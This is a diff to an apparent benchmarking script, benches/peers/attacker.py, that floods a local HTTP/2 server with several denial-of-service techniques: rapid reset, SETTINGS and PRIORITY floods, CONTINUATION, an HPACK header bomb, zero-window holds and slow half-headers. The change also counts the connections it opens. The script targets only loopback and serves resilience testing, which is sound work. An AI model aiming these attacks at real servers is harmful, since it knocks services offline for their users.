@@ -3,15 +3,14 @@
 
     benches/peers/attacker.py KIND PORT
 
-It comes back as soon as it is thrown out. Without a KIND it lists them. Nothing but loopback is attacked.
+It comes back as soon as it is thrown out; stopped, it prints how many connections it has had. Without a KIND it lists them. Nothing but loopback is attacked.
 """
 
+import signal
 import socket
 import sys
-import time
 
-CONNECTIONS_HELD = 50  # what the kinds that wait keep open at once
-SLOW_HELD = 10_000
+connections = 0  # opened so far
 STREAMS = 100
 DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 2, 3, 4, 6, 9
 END_STREAM, END_HEADERS = 1, 4
@@ -28,7 +27,9 @@ def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
 
 def begin(port: int, settings: bytes = b"") -> socket.socket:
     """A connection that has said what it must."""
-    peer = socket.create_connection(("127.0.0.1", port), timeout=5)
+    global connections
+    peer = socket.create_connection(("127.0.0.1", port), timeout=60)
+    connections += 1
     peer.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
     return peer
 
@@ -62,45 +63,30 @@ def continuation(port: int) -> None:
             peer.sendall(frame(CONTINUATION, 0, 1, b"\0\x01a\x01b") * 64)
 
 
-def header_bomb(port: int) -> None:
-    """Many streams whose heads are many references to one field; bodies stay open, windows shut."""
-    block = POST + b"\x40\x01a\x01b" + b"\xbe" * 90
-    held = []
-    while True:
-        peer = begin(port, settings=b"\0\x04\0\0\0\0")
-        heads = b"".join(frame(HEADERS, END_HEADERS, 2 * number + 1, block) for number in range(STREAMS))
-        peer.sendall(heads)
-        held.append(peer)
-        if len(held) > CONNECTIONS_HELD:
-            held.pop(0).close()
+def hold(count: int, settings: bytes, begun: bytes):
+    """So many connections on which nothing goes on, each opened again as it is closed."""
+
+    def attack(port: int) -> None:
+        held = []
+        while True:
+            if len(held) == count:
+                while held[0].recv(1 << 16):
+                    pass
+                held.pop(0).close()
+            held.append(begin(port, settings))
+            held[-1].sendall(begun)
+
+    return attack
 
 
-def slow_heads(port: int) -> None:
-    """Thousands of connections with half a head each, opened again as they are closed."""
-    half = frame(HEADERS, END_STREAM, 1, GET)
-    held = []
-    for _ in range(SLOW_HELD):
-        peer = begin(port)
-        peer.sendall(half)
-        held.append(peer)
-    while held:
-        held.pop(0).recv(1)
-        held.append(begin(port))
-        held[-1].sendall(half)
+def requests(flags: int, block: bytes) -> bytes:
+    """As many as may be open at once."""
+    return b"".join(frame(HEADERS, END_HEADERS | flags, 2 * number + 1, block) for number in range(STREAMS))
 
 
-def shut_windows(port: int) -> None:
-    """Requests whose answers nobody takes."""
-    held = []
-    while True:
-        peer = begin(port, settings=b"\0\x04\0\0\0\0")
-        heads = (frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, GET) for number in range(STREAMS))
-        peer.sendall(b"".join(heads))
-        held.append(peer)
-        if len(held) > CONNECTIONS_HELD:
-            held.pop(0).close()
-            time.sleep(0.1)
-
+NO_WINDOW = b"\0\x04\0\0\0\0"
+# Many references to one field; bodies stay open, windows shut.
+BOMB = requests(0, POST + b"\x40\x01a\x01b" + b"\xbe" * 90)
 
 KINDS = {
     "rapid-reset": rapid_reset,
@@ -108,9 +94,9 @@ KINDS = {
     "settings": flood(SETTINGS, b""),
     "priority": flood(PRIORITY, b"\0\0\0\0\x01"),
     "continuation": continuation,
-    "header-bomb": header_bomb,
-    "shut-windows": shut_windows,
-    "slow-heads": slow_heads,
+    "header-bomb": hold(8, NO_WINDOW, BOMB),
+    "shut-windows": hold(50, NO_WINDOW, requests(END_STREAM, GET)),
+    "slow-heads": hold(10_000, b"", frame(HEADERS, END_STREAM, 1, GET)),
 }
 
 
@@ -119,11 +105,16 @@ def main() -> None:
     if len(sys.argv) != 3 or sys.argv[1] not in KINDS:
         sys.exit(f"{__doc__}\nkinds: {', '.join(KINDS)}")
     attack, port = KINDS[sys.argv[1]], int(sys.argv[2])
-    while True:
-        try:
-            attack(port)
-        except OSError:
-            pass
+    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
+    try:
+        while True:
+            try:
+                attack(port)
+            except OSError:
+                pass
+    finally:
+        # A bench that compares wants to know that there was an attack at all.
+        print(connections, flush=True)
 
 
 if __name__ == "__main__":
